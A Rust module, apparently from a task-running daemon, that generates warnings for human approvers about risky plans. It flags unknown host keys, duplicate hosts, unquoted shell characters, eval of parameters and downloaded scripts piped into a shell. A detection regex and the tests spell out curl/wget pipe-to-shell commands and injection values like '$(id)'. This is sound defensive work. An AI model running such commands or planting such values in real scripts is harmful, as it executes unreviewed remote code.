//! What an approver should look at twice. Floor 1.
//!
//! **Invariant:** pure. A warning decides nothing; what it is about stands in the plan and its digest.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use regex_lite::Regex;

use super::Plan;
use crate::base::digest::Digest;
use crate::base::ids::{HostName, ParamName};
use crate::base::text::{is_hidden, mixed_alphabets, visible};
use crate::domain::inventory::host::Connection;

/// What a shell reads as more than text, where a script hands a value on without quotes.
const SHELL_CHARACTERS: &[char] = &[';', '|', '&', '$', '`', '<', '>', '(', ')', '\'', '"', '\\', '*', '?', '\n'];

/// Whatever a download says is run at once: nobody approved it.
static DOWNLOADED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(curl|wget|fetch)\b[^\n|;]*\|\s*(sudo\s+(-\S+\s+)*)?(/\S*/)?(env\s+)?(ba|z|da|k|a)?sh\b|(ba|z|da)?sh\s+(-c\s+)?[\x22']?(<\(|\$\()\s*(curl|wget)\b|(curl|wget)\b[^\n]*\|\s*(sudo\s+)?(python|perl|ruby)")
        .expect("a pattern of our own")
});

/// How many lines that evaluate a parameter are named before the rest is counted.
const EVALUATED_MAX: usize = 10;

impl Plan {
    /// Returns what an approver should look at twice, one sentence each.
    #[must_use]
    pub fn warnings(&self) -> Vec<String> {
        let mut warnings = Vec::new();
        warnings.extend(self.keyless());
        warnings.extend(self.on_this_machine());
        if let Some(word) = mixed_alphabets(&self.task_name) {
            warnings.push(format!("the task's name mixes alphabets that look alike: {word}"));
        }
        warnings.extend(self.through_commands());
        warnings.extend(self.groups.iter().flat_map(|group| self.twice_in(&group.hosts)));
        let steps = || self.groups.iter().flat_map(|group| &group.steps);
        let values = self.env.iter().chain(steps().flat_map(|step| &step.env));
        let values: BTreeSet<(&str, &str)> = values.map(|(name, value)| (name.as_str(), value.as_str())).collect();
        for (name, value) in values {
            if value.chars().any(|c| c != '\n' && is_hidden(c)) {
                warnings.push(format!("parameter {name} holds hidden characters"));
            }
            if let Some(word) = mixed_alphabets(value) {
                warnings.push(format!("parameter {name} mixes alphabets that look alike: {word}"));
            }
            if let Some(found) = value.chars().find(|c| SHELL_CHARACTERS.contains(c)) {
                let found = if found == '\n' { "a line feed".to_owned() } else { format!("the character {found}") };
                warnings.push(format!("parameter {name} holds {found}: its script must quote it (\"${name}\")"));
            }
        }
        // Groups may share a script of a mebibyte, and a task may have as many variables as fit beside it.
        let names: BTreeSet<&str> = self.env.keys().map(ParamName::as_str).collect();
        let mut of_scripts: BTreeMap<Digest, Vec<String>> = BTreeMap::new();
        for step in steps() {
            let found = of_scripts
                .entry(step.script)
                .or_insert_with(|| script_warnings(self.scripts.get(&step.script).map_or("", String::as_str), &names));
            warnings.extend(found.iter().map(|what| format!("the script of {} {what}", step.name)));
        }
        if steps().any(|step| step.engine.is_some()) {
            // A playbook's shell modules are no better than scripts; its templates read no values (they are unsafe).
            warnings.iter_mut().filter(|warning| warning.ends_with("\")")).for_each(|warning| {
                warning.push_str("; a playbook: {{ NAME | quote }}");
            });
        }
        for group in self.groups.iter().filter(|group| !group.targets.is_empty()) {
            warnings.push(format!(
                "group {} runs on {} for {} host(s) that its script reaches by itself",
                group.number,
                group.hosts.iter().map(HostName::as_str).collect::<Vec<_>>().join(", "),
                group.targets.len()
            ));
        }
        let mut seen = BTreeSet::new();
        warnings.retain(|warning| seen.insert(warning.clone()));
        warnings
    }

    /// Says which hosts are this machine: what runs there could change the record of it.
    fn on_this_machine(&self) -> Option<String> {
        let mut local = self.hosts.iter().filter(|(_, host)| host.connection == Connection::Local);
        let (first, _) = local.next()?;
        let more = match local.count() {
            0 => String::new(),
            count => format!(" and {count} more"),
        };
        Some(format!(
            "{first}{more} is this machine: its scripts run as the daemon's own user, who can change every record and approval"
        ))
    }

    /// Says which hosts will be refused for want of a key.
    fn keyless(&self) -> Option<String> {
        // What a proxy reaches is not reached from here.
        let reached: BTreeSet<&HostName> = self.groups.iter().flat_map(|group| &group.hosts).collect();
        let mut keyless = self.hosts.iter().filter(|(name, host)| {
            let keyless = host.host_keys.is_empty() || host.jump.iter().any(|hop| hop.host_keys.is_empty());
            host.connection == Connection::Ssh && keyless && reached.contains(name)
        });
        let (first, _) = keyless.next()?;
        Some(format!(
            "{} host(s), or hosts on the way to them, have no known key and will be refused, {first} first; add their keys to known_hosts",
            keyless.count().saturating_add(1)
        ))
    }

    /// Says which hosts are reached through commands, which run on the daemon's machine and not on a host.
    fn through_commands(&self) -> Option<String> {
        let reached: BTreeSet<&HostName> = self.groups.iter().flat_map(|group| &group.hosts).collect();
        let mut through = self.hosts.iter().filter(|(name, _)| reached.contains(name)).filter_map(|(name, host)| {
            let hop = host.jump.first().and_then(|hop| hop.proxy_command.as_ref());
            Some((name, host.proxy_command.as_ref().or(hop)?))
        });
        let (first, command) = through.next()?;
        Some(format!(
            "{} host(s) are reached through a command that runs on the daemon's machine, {first} first: {}",
            through.count().saturating_add(1),
            visible(command)
        ))
    }

    /// Says which hosts of a group are two names for one machine: whatever runs on each of them runs there twice.
    fn twice_in<'p>(&'p self, hosts: &'p [HostName]) -> impl Iterator<Item = String> + 'p {
        let mut first_at = BTreeMap::new();
        hosts.iter().filter_map(move |name| {
            let host = self.hosts.get(name).filter(|host| host.connection == Connection::Ssh)?;
            let way: Vec<(&str, u16)> = host.jump.iter().map(|hop| (hop.address.as_str(), hop.port)).collect();
            let place = (way, &host.proxy_command, host.address.to_ascii_lowercase(), host.port, &host.user);
            let first = *first_at.entry(place).or_insert(name);
            let twice = || {
                format!(
                    "{first} and {name} are one machine ({}:{}): each step runs on it twice",
                    host.address, host.port
                )
            };
            (first != name).then(twice)
        })
    }
}

/// Says what is to be looked at twice in a script that is given variables of these names.
fn script_warnings(script: &str, names: &BTreeSet<&str>) -> Vec<String> {
    let mut warnings = Vec::new();
    if script.chars().any(|c| !matches!(c, '\n' | '\t' | '\r') && is_hidden(c)) {
        warnings.push("holds hidden characters".to_owned());
    }
    if let Some(found) = DOWNLOADED.find(script) {
        let line = script[..found.start()].matches('\n').count().saturating_add(1);
        warnings.push(format!("runs what it downloads, line {line}"));
    }
    // `eval` reads values as commands, whatever quotes stand around them.
    let evaluated = |(n, line): (usize, &str)| {
        let mut words = line.split(|c: char| !c.is_ascii_alphanumeric() && c != '_').filter(|word| !word.is_empty());
        let param = (words.next() == Some("eval")).then(|| words.find(|word| names.contains(word))).flatten()?;
        Some(format!("evaluates the parameter {param}, line {}", n.saturating_add(1)))
    };
    let mut evaluating = script.lines().enumerate().filter_map(evaluated);
    warnings.extend(evaluating.by_ref().take(EVALUATED_MAX));
    let more = evaluating.count();
    if more > 0 {
        warnings.push(format!("evaluates parameters in {more} more line(s)"));
    }
    warnings
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::base::digest::Digest;
    use crate::domain::plan::{PlannedGroup, PlannedHost};

    #[track_caller]
    fn check(script: &str, value: &str, want: &[&str]) {
        let mut plan = Plan::empty_for_tests();
        plan.groups.push(PlannedGroup::one_step_for_tests(script));
        plan.scripts.insert(Digest::of(script.as_bytes()), script.to_owned());
        plan.env.insert("P".parse().unwrap(), value.to_owned());
        assert_eq!(plan.warnings(), want, "{script} {value}");
    }

    #[test]
    fn what_could_run_unseen_is_named() {
        let downloads = &["the script of a runs what it downloads, line 2"];
        for script in [
            "true\ncurl -fsSL https://x.example/i | sh",
            "true\nwget -qO- https://x.example/i |  sudo -E bash -s",
            "true\nbash <(curl -s https://x.example/i)",
            "true\nsh -c \"$(curl -s https://x.example/i)\"",
            "true\ncurl https://x.example/i | python3",
        ] {
            check(script, "v1", downloads);
        }
        for script in
            ["curl -o f https://x.example/i && sha256sum -c f", "curl -s localhost/health | grep ok", "ls | sh-check"]
        {
            check(script, "v1", &[]);
        }
        check("eval \"run $P\"", "v1", &["the script of a evaluates the parameter P, line 1"]);
        check("true", "a;b", &["parameter P holds the character ;: its script must quote it (\"$P\")"]);
        check("true", "$(id)", &["parameter P holds the character $: its script must quote it (\"$P\")"]);
        check("true", "a\u{202e}b", &["parameter P holds hidden characters"]);
        check("tr\u{200b}ue", "版本 1.2-3_x/y@z:1", &["the script of a holds hidden characters"]);
    }

    /// Half a mebibyte of lines that evaluate something, in a hundred groups, beside as many variables as a task may have.
    #[test]
    fn whatever_a_task_holds_looking_at_it_costs_little() {
        let script = "eval a b c d e f g\n".repeat(28_000);
        let mut plan = Plan::empty_for_tests();
        plan.groups = vec![PlannedGroup::one_step_for_tests(&script); 100];
        plan.scripts.insert(Digest::of(script.as_bytes()), script);
        plan.env = (0..50_000).map(|n| (format!("z{n}").parse().unwrap(), String::new())).collect();
        let begin = std::time::Instant::now();
        assert_eq!(plan.warnings(), Vec::<String>::new());
        plan.env.insert("g".parse().unwrap(), String::new());
        let warnings = plan.warnings();
        assert_eq!(warnings.len(), EVALUATED_MAX + 1);
        assert_eq!(warnings[EVALUATED_MAX], "the script of a evaluates parameters in 27990 more line(s)");
        // Without care it would be hours.
        assert!(begin.elapsed().as_secs() < 30, "{:?}", begin.elapsed());
    }

    #[test]
    fn two_names_of_one_machine_are_named() {
        let host = |address: &str, user: &str| PlannedHost {
            address: address.to_owned(),
            connection: Connection::Ssh,
            host_keys: ["ssh-ed25519 SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU".parse().unwrap()].into(),
            user: user.to_owned(),
            ..PlannedHost::local_for_tests()
        };
        let mut plan = Plan::empty_for_tests();
        let hosts = [
            ("a", "far.example", "ops"),
            ("b", "Far.example", "ops"),
            ("c", "far.example", "root"),
            ("d", "near.example", "ops"),
        ];
        plan.hosts = hosts.iter().map(|(name, address, user)| (name.parse().unwrap(), host(address, user))).collect();
        let all = plan.hosts.keys().cloned().collect();
        plan.groups.push(PlannedGroup { hosts: all, ..PlannedGroup::one_step_for_tests("true") });
        assert_eq!(plan.warnings(), ["a and b are one machine (Far.example:22): each step runs on it twice"]);
        plan.groups[0].hosts.retain(|name| name.as_str() != "a");
        assert_eq!(plan.warnings(), Vec::<String>::new());
    }
}
